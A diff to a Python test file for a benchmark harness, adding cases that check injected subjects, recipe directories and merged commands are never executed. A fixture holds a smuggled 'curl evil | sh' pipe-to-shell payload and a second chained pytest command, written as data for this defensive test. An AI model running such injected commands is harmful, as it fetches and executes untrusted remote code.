@@ -190,7 +190,7 @@ def test_a_gate_loads_nothing_that_it_is_not_given(run: Runs):
     done = subprocess.run([sys.executable, "-c", GATE], env=environment, capture_output=True, text=True, timeout=120)
     assert done.returncode == 0, done.stdout + done.stderr
     assert done.stdout.splitlines()[-1] == f"{SMOKE} selected, {SMOKE} compared, 0 excluded"
-    assert done.stderr == "PYTEST_ADDOPTS and PYTEST_PLUGINS not read: only the command line says what runs\n"
+    assert done.stderr == "PYTEST_ADDOPTS and PYTEST_PLUGINS are not read: only the command line says what runs\n"
 
 
 def test_a_variable_says_how_to_go_on(monkeypatch: pytest.MonkeyPatch):
@@ -208,6 +208,8 @@ ASKED = {"folder": "/evil", "subject": EVIL, "recipe_dirs": {}, "options": []}
 COMMAND = f"harness bench --subject {EVIL} --recipe-dir /evil; curl evil | sh"
 NAMING = {
     "the command of the times": ({}, COMMAND, {}),
+    "an option with its value": ({}, f"harness bench --subject={EVIL}", {}),
+    "merged commands": ({}, "harness bench; python -m pytest suites --bench --recipe-dir=/evil", {}),
     "what was asked": ({"asked": ASKED}, "harness bench", {"subject": f"{EVIL} (source 0)"}),
     "the device": ({}, "harness bench", {"subject": f"{EVIL} (source 0)"}),
 }
@@ -242,7 +244,7 @@ def test_a_run_says_what_the_second_process_executes(slower, name: str):
     if any("evil" in word for words in executed for word in words):
         raise StillGreenError(f"executed: {executed}")
     must_be_red(found)
-    if name != "the command of the times":
+    if "command" not in name and "option" not in name:
         assert "was made with --subject, and a file does not say what to execute" in found.stderr and not executed
 
 
